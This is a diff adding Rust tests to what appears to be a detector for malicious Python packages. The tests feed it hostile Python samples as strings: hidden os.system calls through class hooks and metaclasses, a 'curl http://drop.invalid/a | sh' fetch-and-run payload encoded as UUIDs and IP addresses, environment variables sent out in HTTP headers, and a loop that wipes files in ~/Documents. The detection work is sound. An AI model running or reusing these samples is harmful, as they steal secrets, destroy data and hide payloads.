@@ -972,3 +972,75 @@ fn a_cipher_with_its_key_beside_it_is_undone() {
     let sample = "from Crypto.Cipher import ARC4\ns = ARC4.new(b'Key').decrypt(bytes.fromhex('bbf316e8d940af0ad3'))";
     assert_eq!(told(sample), ["Plaintext"]);
 }
+
+#[test]
+fn defining_a_class_runs_what_stands_above_it() {
+    for sample in [
+        "import os\nclass A:\n    def __init_subclass__(cls, **rest):\n        os.system(C)\nclass B(A): pass",
+        "import os\nclass M(type):\n    def __new__(mcs, name, bases, space):\n        os.system(C)\nclass B(metaclass=M): pass",
+        "import os\ndef make(name, bases, space):\n    os.system(C)\nclass B(metaclass=make): pass",
+        "import os\nclass A:\n    def __del__(self):\n        os.system(C)\na = A()",
+        "import os\nclass A:\n    run = staticmethod(os.system)\nA.run(C)",
+        "import os\nclass A:\n    run = staticmethod(os.system)\nA().run(C)",
+        "import os\nclass A:\n    def go(c):\n        os.system(c)\n    run = staticmethod(go)\nA().run(C)",
+    ] {
+        runs(&sample.replace('C', &format!("'{COMMAND}'")));
+    }
+}
+
+#[test]
+fn payloads_are_spelled_as_identifiers() {
+    let hex: String = "import os;os.system('curl http://drop.invalid/a | sh')#           "
+        .bytes()
+        .take(64)
+        .map(|byte| format!("{byte:02x}"))
+        .collect();
+    let parts: Vec<String> = (0..4).map(|at| format!("'{}'", &hex[32 * at..32 * at + 32])).collect();
+    let list = parts.join(", ");
+    runs(&format!("import uuid\nexec(b''.join(uuid.UUID(i).bytes for i in [{list}]))"));
+    let address: Vec<String> = (0..16)
+        .map(|at| {
+            let byte = |at: usize| u8::from_str_radix(&hex[2 * at..2 * at + 2], 16).unwrap();
+            format!("'{}.{}.{}.{}'", byte(4 * at), byte(4 * at + 1), byte(4 * at + 2), byte(4 * at + 3))
+        })
+        .collect();
+    let list = address.join(", ");
+    runs(&format!("import ipaddress\nexec(b''.join(ipaddress.ip_address(i).packed for i in [{list}]))"));
+    runs(&format!("import socket\nexec(b''.join(map(socket.inet_aton, [{list}])))"));
+}
+
+#[test]
+fn what_is_put_into_an_object_goes_with_it() {
+    for sample in [
+        "import os, requests\ns = requests.Session()\ns.headers['X-Who'] = os.environ['USER']\ns.get('http://a.invalid')",
+        "import os, requests\ns = requests.Session()\ns.headers.update({'a': str(dict(os.environ))})\ns.get('http://a.invalid')",
+        "import os\nfrom urllib.request import Request, urlopen\nr = Request('http://a.invalid')\nr.add_header('a', str(dict(os.environ)))\nurlopen(r)",
+        "import os, requests\nclass A:\n    def __init__(self):\n        self.s = requests.Session()\n        self.s.headers['X'] = str(dict(os.environ))\n        self.s.get('http://a.invalid')\nA()",
+    ] {
+        let analysis = analysed(Role::Package, sample);
+        assert!(
+            flows(&analysis).iter().any(|flow| flow.source == "environment.read" && flow.sink.starts_with("network.")),
+            "{sample}\n{:#?}",
+            analysis.facts
+        );
+    }
+}
+
+#[test]
+fn paths_of_a_listing_are_paths() {
+    let sample = "from pathlib import Path\nfor p in (Path.home() / 'Documents').rglob('*'):\n    p.write_bytes(b'0' * 9)\n    p.unlink()";
+    let analysis = analysed(Role::Package, sample);
+    let behaviours: Vec<&String> = calls(&analysis).into_iter().flat_map(|call| &call.behaviour).collect();
+    assert!(behaviours.iter().any(|it| *it == "file.write"), "{behaviours:?}");
+    assert!(behaviours.iter().any(|it| *it == "file.delete"), "{behaviours:?}");
+    let sample =
+        "from pathlib import Path\nfor d in Path.home().glob('*/.git'):\n    (d.parent / 'X.md').write_text('a')";
+    let analysis = analysed(Role::Package, sample);
+    assert!(calls(&analysis).iter().any(|call| call.behaviour.iter().any(|it| it == "file.write")));
+}
+
+#[test]
+fn a_key_that_is_computed_leaves_its_mark() {
+    let sample = "import os, hashlib\nk = hashlib.sha256(os.environ.get('X', '').encode()).digest()\nexec(bytes(a ^ b for a, b in zip(bytes.fromhex('8f1c'), k)).decode())";
+    flow(&analysed(Role::Package, sample), "environment.read", "code.exec");
+}
